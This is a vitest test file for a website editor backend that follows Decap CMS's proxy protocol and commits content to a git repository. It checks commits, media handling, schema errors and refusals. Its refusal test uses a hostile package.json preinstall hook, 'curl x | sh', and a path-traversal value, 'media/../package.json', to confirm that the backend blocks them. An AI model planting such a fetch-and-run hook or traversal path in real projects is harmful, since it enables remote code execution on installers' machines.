// The desk editor's backend, spoken as Decap's proxy backend speaks it, against a real bare
// repository: a Publish with a picture becomes the member's commit; a crafted request for a
// path that is not content is refused with its reason and changes nothing.
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { createContentRepository } from "./content-repository.server.ts";
import { answerEditorRequest } from "./editor-api.server.ts";

let dir = "";
let remote = "";
const member = { name: "Ada Member", email: "ada@example.org" };
const NEW_EVENT =
  "---\ntitle: New\ndate: 2026-12-04T18:00\nimage:\n  src: new.jpg\n---\nAn evening.\n";
const remoteGit = (...args: string[]) =>
  execFileSync("git", args, { cwd: remote, encoding: "utf8" }).trim();

beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), "front-editor-api-"));
  remote = path.join(dir, "remote.git");
  const work = path.join(dir, "work");
  execFileSync("git", ["init", "-q", "--bare", "--initial-branch=main", remote]);
  execFileSync("git", ["init", "-q", "--initial-branch=main", work]);
  execFileSync("mkdir", ["-p", path.join(work, "app/content/events"), path.join(work, "server")]);
  writeFileSync(path.join(work, "package.json"), '{"name":"front"}\n');
  writeFileSync(path.join(work, "server/index.ts"), "export {};\n");
  writeFileSync(path.join(work, "app/content/events/old.md"), "---\ntitle: Old\n---\n");
  const inWork = (...args: string[]) => execFileSync("git", args, { cwd: work });
  inWork("add", ".");
  inWork("-c", "user.name=Op", "-c", "user.email=op@example.org", "commit", "-qm", "start");
  inWork("push", "-q", remote, "main");
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const repository = () =>
  createContentRepository({
    repositoryPath: path.join(dir, "site.git"),
    remote,
    branch: "main",
    committer: { name: "The Front's website", email: "site@thefront.invalid" },
    readFreshnessMs: 0,
  });

async function ask(body: unknown, to = repository()) {
  const request = new Request("http://127.0.0.1/desk/editor/api", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: typeof body === "string" ? body : JSON.stringify(body),
  });
  const response = await answerEditorRequest(request, to, member);
  return { status: response.status, body: (await response.json()) as unknown };
}

describe("the desk editor's backend", () => {
  it("lists and reads content, and nothing else", async () => {
    const listed = await ask({
      action: "entriesByFolder",
      params: { branch: "main", folder: "app/content/events", extension: "md", depth: 1 },
    });
    expect(listed.body).toEqual([
      {
        data: "---\ntitle: Old\n---\n",
        file: { path: "app/content/events/old.md", id: expect.any(String) },
      },
    ]);
    const code = await ask({ action: "getEntry", params: { path: "package.json" } });
    expect(code.body).toEqual({ data: null, file: { path: "package.json", id: null } });
  });

  it("commits a Publish with its picture for the member", async () => {
    const picture = Buffer.from([0xff, 0xd8, 0xff, 0xe0]).toString("base64");
    const answer = await ask({
      action: "persistEntry",
      params: {
        branch: "someone-elses-branch",
        dataFiles: [{ path: "app/content/events/new.md", raw: NEW_EVENT, slug: "new" }],
        assets: [{ path: "media/events/new.jpg", content: picture, encoding: "base64" }],
        options: { commitMessage: "Content: add events new", useWorkflow: false },
      },
    });
    expect(answer.status).toBe(200);
    expect(remoteGit("log", "-1", "--format=%an <%ae>: %s", "main")).toBe(
      "Ada Member <ada@example.org>: Content: add events new",
    );
    expect(remoteGit("branch", "--list")).toBe("* main");
    const media = await ask({ action: "getMedia", params: { mediaFolder: "media/events" } });
    expect(media.body).toEqual([
      expect.objectContaining({ path: "media/events/new.jpg", content: picture }),
    ]);
  });

  it.each([
    ["package.json", "persistEntry"],
    ["server/x.ts", "persistEntry"],
    ["server/y.ts", "persistEntry with a broken entry"],
    ["server/index.ts", "deleteFile"],
    ["media/../package.json", "persistMedia"],
  ])("refuses to touch %s (%s), and the repository stays as it was", async (target, action) => {
    const before = remoteGit("rev-parse", "main");
    const params =
      action === "persistEntry with a broken entry"
        ? {
            dataFiles: [{ path: "app/content/events/x.md", raw: "---\ntitle: X\n---\n" }],
            assets: [{ path: target, content: "e30=", encoding: "base64" }],
          }
        : action === "persistEntry"
          ? {
              dataFiles: [{ path: target, raw: '{"scripts":{"preinstall":"curl x | sh"}}' }],
              assets: [],
            }
          : action === "deleteFile"
            ? { path: target }
            : { asset: { path: target, content: "e30=", encoding: "base64" } };
    const answer = await ask({ action: action.split(" ")[0], params });
    expect(answer.status).toBe(403);
    expect(answer.body).toEqual({ error: expect.stringContaining(target) });
    expect(remoteGit("rev-parse", "main")).toBe(before);
  });

  it("refuses an entry its schema refuses, naming the field, and commits nothing", async () => {
    const before = remoteGit("rev-parse", "main");
    const answer = await ask({
      action: "persistEntry",
      params: {
        dataFiles: [{ path: "app/content/events/broken.md", raw: "---\ntitle: Broken\n---\n" }],
        assets: [],
      },
    });
    expect(answer.status).toBe(422);
    expect(answer.body).toEqual({ error: expect.stringMatching(/broken\.md: .*date/) });
    expect(remoteGit("rev-parse", "main")).toBe(before);
  });

  it("answers what it does not know with a 4xx, never a crash", async () => {
    expect((await ask("not json")).status).toBe(400);
    expect((await ask({ action: "unpublishedEntries", params: {} })).status).toBe(422);
    expect((await ask({ action: "getEntry", params: { path: 5 } })).status).toBe(422);
  });

  it("tells the member in a sentence when the repository cannot be reached", async () => {
    const unreachable = createContentRepository({
      repositoryPath: path.join(dir, "unreachable-site.git"),
      remote: path.join(dir, "no-such-remote.git"),
      branch: "main",
      committer: { name: "The Front's website", email: "site@thefront.invalid" },
    });
    const logged = vi.spyOn(console, "error").mockImplementation(() => undefined);
    const answer = await ask(
      {
        action: "entriesByFolder",
        params: { folder: "app/content/events", extension: "md", depth: 1 },
      },
      unreachable,
    );
    expect(answer.status).toBe(503);
    expect(answer.body).toEqual({ error: expect.stringContaining("Try again in a minute") });
    expect(logged).toHaveBeenCalledWith(expect.stringContaining("no-such-remote.git"));
    logged.mockRestore();
  });
});
